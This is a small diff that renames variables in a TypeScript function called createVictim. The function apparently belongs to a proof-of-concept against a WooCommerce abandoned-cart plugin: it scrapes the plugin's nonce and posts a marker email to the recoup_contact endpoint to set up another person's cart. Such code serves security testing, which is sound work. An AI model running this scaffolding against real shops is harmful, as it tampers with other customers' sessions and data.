@@ -142,14 +142,14 @@ async function createVictim(): Promise<void> {
   }
   await go(`/?add-to-cart=${values.product}`)
   const page = await go(values.checkout)
-  const given = page.slice(page.indexOf('recoupCheckout'))
-  const nonce = page.includes('recoupCheckout') ? /"nonce":"(\w+)"/.exec(given)?.[1] : undefined
+  const source = page.slice(page.indexOf('recoupCheckout'))
+  const nonce = page.includes('recoupCheckout') ? /"nonce":"(\w+)"/.exec(source)?.[1] : undefined
   if (!nonce) throw new Error(`${values.checkout} has not the plugin's script: it is no classic checkout.`)
-  const said = await go('/?wc-ajax=recoup_contact', {
+  const response = await go('/?wc-ajax=recoup_contact', {
     method: 'POST',
     body: new URLSearchParams({ nonce, email: MARK }),
   })
-  if (!said.includes('true')) throw new Error(`The cart of somebody else could not be made: ${said}`)
+  if (!response.includes('true')) throw new Error(`The cart of somebody else could not be made: ${response}`)
   if (!(await go(values.checkout)).includes(MARK)) throw new Error('The shop has not kept the address that was typed.')
 }
 
